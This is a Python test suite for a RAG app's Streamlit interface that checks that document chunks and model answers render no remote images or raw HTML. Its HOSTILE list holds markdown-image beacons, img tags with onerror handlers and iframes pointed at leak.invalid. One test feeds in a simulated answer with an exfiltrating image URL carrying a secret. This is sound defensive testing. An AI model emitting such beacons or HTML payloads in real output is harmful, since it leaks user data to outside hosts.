"""Document text and model output render nothing remote.

Every check parses the rendered Markdown with markdown-it-py (CommonMark, HTML
enabled, so the oracle is stricter than Streamlit): no image token and no raw
HTML token may come out.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from rag_app.types import Chunk, ScoredChunk
from rag_app.ui.citations import badge_markers, prepare
from rag_app.ui.safe_markdown import inline, neutralize
from tests.ui.conftest import UiEnv

Ask = Callable[[AppTest, str], AppTest]
ORACLE = MarkdownIt("commonmark", {"html": True}).enable("table")

HOSTILE = [
    "![beacon](http://leak.invalid/a.png)",
    '![beacon](<http://leak.invalid/a b.png> "title")',
    "![ref][r]\n\n[r]: http://leak.invalid/ref.png",
    "![outer ![inner](http://leak.invalid/in.png)](http://leak.invalid/out.png)",
    "[![badge](http://leak.invalid/badge.svg)](http://example.invalid/)",
    "<img src=http://leak.invalid/b.png>",
    "text <IMG SRC='http://leak.invalid/c.png' onerror=alert(1)> more",
    "<div>\n<img src=http://leak.invalid/d.png>\n</div>",
    "<!-- comment --><iframe src=http://leak.invalid/frame></iframe>",
    "<video poster=http://leak.invalid/v.png></video><audio src=x></audio>",
    "# Heading ![h](http://leak.invalid/h.png)",
    "- item ![li](http://leak.invalid/li.png)\n  ![cont](http://leak.invalid/cont.png)",
    "> quote ![q](http://leak.invalid/q.png)",
    "``` \n![in code](http://leak.invalid/code.png)\n```\n![after](http://leak.invalid/after.png)",
    "````\n```\n![x](http://leak.invalid/nested.png)\n````\n![y](http://leak.invalid/y.png)",
    "`code` ![after span](http://leak.invalid/s.png) `unclosed ![x](http://leak.invalid/u.png)",
    "``a`` ![x](http://leak.invalid/t.png)\n\n`` b ![y](http://leak.invalid/p.png)",
    "\\`not code ![x](http://leak.invalid/esc.png)`",
    "| a | b |\n|---|---|\n| ![t](http://leak.invalid/table.png) | <img src=x> |",
    "![unclosed](http://leak.invalid/",
]


def remote(markdown: str) -> list[str]:
    """Image and raw-HTML tokens in ``markdown``, as a CommonMark renderer with HTML on sees it."""
    def walk(tokens: list[Any]) -> Iterator[Any]:
        for token in tokens:
            yield token
            yield from walk(token.children or [])

    return [f"{t.type}: {t.content or t.attrs}" for t in walk(ORACLE.parse(markdown))
            if t.type in ("image", "html_inline", "html_block")]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("render", [neutralize, prepare, badge_markers, inline])
def test_nothing_remote_survives(text: str, render: Callable[[str], str]) -> None:
    assert remote(text) or "\n" in text or "unclosed" in text  # the oracle sees the danger first
    assert remote(render(text)) == []


def test_images_show_their_alt_text_and_url() -> None:
    assert neutralize("See ![the chart](http://leak.invalid/a.png).") == (
        "See \\[image: the chart\\] http://leak.invalid/a.png."
    )
    rendered = ORACLE.render(neutralize("![chart](http://leak.invalid/a.png)"))
    assert "[image: chart] http://leak.invalid/a.png" in rendered and "<img" not in rendered
    assert "&lt;img src=x&gt;" in ORACLE.render(neutralize("<img src=x>"))


def test_links_code_and_prose_stay_as_written() -> None:
    link = "Read [the guide](https://example.invalid/guide) or https://example.invalid."
    assert neutralize(link) == link
    code = "Run `a < b && echo ![x](y) $HOME` then\n```sh\n<img src=x> $PATH\n```\n"
    assert neutralize(code) == code
    assert neutralize("costs $5, 3 < 4") == "costs \\$5, 3 < 4"


def test_chunk_and_answer_render_no_image(monkeypatch: pytest.MonkeyPatch) -> None:
    """render_answer / render_chunk pass every document and model string through the helpers."""
    from rag_app.ui import citations

    shown: list[str] = []
    for name in ("markdown", "caption", "warning", "info"):
        monkeypatch.setattr(citations.st, name, lambda body, *a, **k: shown.append(str(body)))
    chunk = Chunk("d:00000", "d", "/docs/leak.md", "Text ![x](http://leak.invalid/a.png) <img src=y>",
                  {"relpath": "leak.md", "section": "Intro ![h](http://leak.invalid/h.png)"})
    citations.render_chunk(ScoredChunk(chunk, 0.5, {"dense": 0.5}))
    assert shown and all(remote(body) == [] for body in shown), shown


@pytest.fixture
def leaky_docs(docs_dir: Path) -> Path:
    (docs_dir / "beacon.md").write_text(
        "# Beacon ![h](http://leak.invalid/heading.png)\n\n"
        "Attention beacons grow quadratically with sequence length. "
        "![beacon](http://leak.invalid/doc.png) <img src='http://leak.invalid/doc2.png'>\n",
        encoding="utf-8",
    )
    return docs_dir


def markdown_bodies(at: AppTest) -> list[str]:
    bodies = [str(e.value) for kind in ("markdown", "caption", "warning", "info", "error")
              for e in at.get(kind)]
    for popover in at.get("popover"):
        bodies.append(str(popover.proto.popover.label))
        bodies.extend(str(e.value) for e in popover.markdown)
    return bodies


def test_chat_with_a_remote_image_in_chunk_and_answer_renders_none(
    leaky_docs: Path, ui_env: UiEnv, ask: Ask
) -> None:
    ui_env.generator.pieces = [
        "Attention beacons grow quadratically [1]. ",
        "![exfil](http://leak.invalid/q?secret=1) ",
        "<img src=http://leak.invalid/answer.png>",
    ]
    at = ui_env.app().run()
    at.sidebar.toggle(key="show_chunks").set_value(True).run()
    at = ask(at, "How do attention beacons grow with sequence length?")
    assert not at.exception
    bodies = markdown_bodies(at)
    assert any("leak.invalid/doc.png" in b for b in bodies)  # the chunk is shown, its image as text
    assert any("leak.invalid/q?secret=1" in b for b in bodies)  # so is the answer's
    assert [(b, remote(b)) for b in bodies if remote(b)] == []
    assert list(at.get("imgs")) == []
